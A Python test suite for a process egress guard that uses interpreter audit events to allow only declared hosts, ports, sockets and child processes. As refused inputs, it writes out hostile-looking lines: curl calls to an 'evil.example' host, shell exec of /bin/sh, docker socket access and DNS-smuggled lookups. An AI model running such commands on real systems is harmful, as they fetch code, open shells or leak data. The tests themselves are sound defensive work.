"""What this process may reach: decided for each event of the interpreter, and then enforced in a process of its own."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from typing import Any

import pytest

from domicile.adapters.egress.destinations import Destination
from domicile.adapters.egress.guard import EgressGuard, EgressRefused
from domicile.ports.egress import Attempt

CHILD = "domicile.adapters.parsers.child"
STARTER = "domicile.adapters.egress.child"


@pytest.fixture
def guard() -> EgressGuard:
    """One that permits a name, an address and a Unix socket, and watches nothing."""
    made = EgressGuard(children=[CHILD])
    for each in (Destination("qdrant.example", 6334), Destination("10.0.0.7", 443), Destination("/run/cell.sock", 0)):
        made.permit(each)
    return made


@pytest.fixture
def inet() -> Iterator[socket.socket]:
    with closing(socket.socket()) as made:
        yield made


@pytest.fixture
def unix() -> Iterator[socket.socket]:
    with closing(socket.socket(socket.AF_UNIX)) as made:
        yield made


def refused(guard: EgressGuard, event: str, *arguments: Any) -> Counter[Attempt]:
    with pytest.raises(EgressRefused):
        guard.check(event, arguments)
    return guard.taken()


@pytest.mark.parametrize("event", ["socket.connect", "socket.sendto", "socket.sendmsg"])
def test_only_declared_hosts_and_ports_are_reached(guard: EgressGuard, inet: socket.socket, event: str) -> None:
    """By connecting and by sending; the right host on another port is as wrong as another host."""
    guard.check(event, (inet, ("10.0.0.7", 443)))
    guard.check(event, (inet, ("::ffff:10.0.0.7", 443, 0, 0)))
    guard.check(event, (inet, ("QDRANT.example.", 6334)))
    assert refused(guard, event, inet, ("10.0.0.7", 80)) == {Attempt("connect", "10.0.0.7", 80): 1}
    assert refused(guard, event, inet, ("203.0.113.7", 443)) == {Attempt("connect", "203.0.113.7", 443): 1}
    assert refused(guard, event, inet, ("127.0.0.1", 9050))


def test_sending_on_a_connected_socket_is_not_asked_about_again(guard: EgressGuard, inet: socket.socket) -> None:
    """Its connection was."""
    guard.check("socket.sendmsg", (inet, None))
    assert not guard.taken()


def test_a_local_socket_is_a_way_out_too(guard: EgressGuard, unix: socket.socket) -> None:
    """Somebody may listen there who passes everything on."""
    guard.check("socket.connect", (unix, "/run/cell.sock"))
    assert refused(guard, "socket.connect", unix, "/var/run/docker.sock") == {Attempt("connect", "unix-socket"): 1}
    assert refused(guard, "socket.connect", unix, b"\0abstract")


def test_a_name_is_only_looked_up_if_it_was_declared(guard: EgressGuard) -> None:
    """A lookup is a message to a name server, and to whoever owns the name."""
    for host in ("qdrant.example", b"qdrant.example", "203.0.113.7", "::1", None, ""):
        guard.check("socket.getaddrinfo", (host, 6334, 0, 0, 0))
    smuggled = refused(guard, "socket.getaddrinfo", "secret.evil.example", 443, 0, 0, 0)
    assert smuggled == {Attempt("resolve", "*.evil.example"): 1}
    assert refused(guard, "socket.gethostbyname", "evil.example")
    assert refused(guard, "socket.getnameinfo", ("10.0.0.7", 443))


def test_what_a_declared_name_stands_for_is_reached_on_its_ports(guard: EgressGuard, inet: socket.socket) -> None:
    """And what another name stands for is not: only answers about declared names are learned."""
    guard.looked_up("qdrant.example", [(socket.AF_INET, 1, 6, "", ("192.0.2.5", 6334))])
    guard.looked_up("evil.example", [(socket.AF_INET, 1, 6, "", ("192.0.2.6", 6334))])
    guard.check("socket.connect", (inet, ("192.0.2.5", 6334)))
    assert refused(guard, "socket.connect", inet, ("192.0.2.5", 443))
    assert refused(guard, "socket.connect", inet, ("192.0.2.6", 6334))


@pytest.mark.parametrize(
    ("family", "kind"),
    [
        (getattr(socket, "AF_PACKET", 17), socket.SOCK_RAW),
        (socket.AF_INET, socket.SOCK_RAW),
        (socket.AF_INET, socket.SOCK_RAW | 0x80000),
        (40, socket.SOCK_STREAM),
    ],
)
def test_sockets_that_need_no_connection_are_not_even_made(guard: EgressGuard, family: int, kind: int) -> None:
    """Raw ones, and those of other families (40 leads from a virtual machine to its host)."""
    assert refused(guard, "socket.__new__", None, family, kind, 0) == {Attempt("socket", f"family-{family}"): 1}
    guard.check("socket.__new__", (None, socket.AF_INET6, socket.SOCK_STREAM, 0))


def test_only_our_own_child_processes_are_started(guard: EgressGuard) -> None:
    """Anything else could connect in its own name."""
    ours = [sys.executable, "-P", "-m", STARTER, CHILD, "1"]
    guard.check("subprocess.Popen", (sys.executable, ours, None, None))
    strange = (
        ["curl", "https://evil.example"],
        [sys.executable, "-m", "http.server"],
        [sys.executable, "-c", CHILD],
        ["sh"],
        [],
    )
    strange += ([sys.executable, "-m", CHILD], [sys.executable, "-m", STARTER], [sys.executable, "-m", STARTER, "http.server"])
    for command in strange:
        assert refused(guard, "subprocess.Popen", "x", command, None, None) == {Attempt("start", "child-process"): 1}
    assert refused(guard, "os.system", b"curl https://evil.example")
    assert refused(guard, "os.exec", "/bin/sh", ["sh"], None)


def test_a_harmless_question_of_a_library_is_refused_without_an_alarm(guard: EgressGuard) -> None:
    """``platform.architecture`` starts one when a library is imported, and does without its answer."""
    assert not refused(guard, "subprocess.Popen", "file", ["file", "-b", sys.executable], None, None)


def test_refusals_are_counted_and_never_more_than_a_number_of_them_kept(guard: EgressGuard, inet: socket.socket) -> None:
    """Whoever tries a thousand doors must not fill the memory; what could not be written down is put back."""
    for port in range(1000):
        with pytest.raises(EgressRefused):
            guard.check("socket.connect", (inet, ("203.0.113.7", port)))
    taken = guard.taken()
    assert len(taken) <= 257
    assert taken.total() == 1000
    guard.put_back(taken)
    assert guard.taken() == taken
    assert not guard.taken()


def test_other_events_pass(guard: EgressGuard) -> None:
    """The guard is asked about every file and every import, too."""
    guard.check("open", ("/etc/hosts", "r", 0))
    guard.check("import", ("socket", None, None, None, None))


PROGRAM = """
import json, socket, subprocess, sys
from domicile.adapters.egress.destinations import Destination
from domicile.adapters.egress.guard import PROCESS_GUARD, install
install()
install()
port = int(sys.argv[1])
def outcome(attempt):
    try:
        attempt()
    except OSError as error:
        return type(error).__name__
    return "done"
before = outcome(lambda: socket.create_connection(("127.0.0.1", port), 5).close())
PROCESS_GUARD.permit(Destination("localhost", port))
results = {
    "before": before,
    "permitted": outcome(lambda: socket.create_connection(("localhost", port), 5).close()),
    "elsewhere": outcome(lambda: socket.create_connection(("192.0.2.1", 443), 5)),
    "name": outcome(lambda: socket.getaddrinfo("secret.evil.example", 443)),
    "datagram": outcome(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53))),
    "child": outcome(lambda: subprocess.run(["true"])),
    "low-level": outcome(lambda: __import__("_socket").socket(2, 1).connect(("192.0.2.1", 443))),
}
import asyncio, httpx2
async def fetch():
    async with httpx2.AsyncClient() as http:
        await http.get("http://192.0.2.1/")
try:
    asyncio.run(fetch())
except httpx2.ConnectError:
    results["http"] = "ConnectError"
refusals = sorted((each.kind, each.target, each.port, times) for each, times in PROCESS_GUARD.taken().items())
print(json.dumps([results, refusals]))
"""


def test_the_interpreter_enforces_it(inet: socket.socket) -> None:
    """In a process that installed it: also for the module below ``socket``, and clients see an error that they handle."""
    inet.bind(("127.0.0.1", 0))
    inet.listen(8)
    port = str(inet.getsockname()[1])
    ran = subprocess.run([sys.executable, "-W", "ignore", "-c", PROGRAM, port], capture_output=True, text=True, check=True)
    results, audited = json.loads(ran.stdout)
    assert results.pop("permitted") == "done"
    assert results.pop("http") == "ConnectError"
    assert set(results.values()) == {"EgressRefused"}
    assert audited == [
        ["connect", "127.0.0.1", int(port), 1],
        ["connect", "192.0.2.1", 53, 1],
        ["connect", "192.0.2.1", 80, 1],
        ["connect", "192.0.2.1", 443, 2],
        ["resolve", "*.evil.example", 0, 1],
        ["start", "child-process", 0, 1],
    ]


def test_importing_the_guard_watches_nothing() -> None:
    """Only what starts a process installs it."""
    code = "import domicile.cli.main, domicile.adapters.egress.guard as g, socket; s = socket.socket(type=socket.SOCK_DGRAM)"
    code += "; s.connect(('127.0.0.1', 9)); print(g.is_installed())"
    ran = subprocess.run([sys.executable, "-W", "ignore", "-c", code], capture_output=True, text=True, check=True)
    assert ran.stdout.strip() == "False"
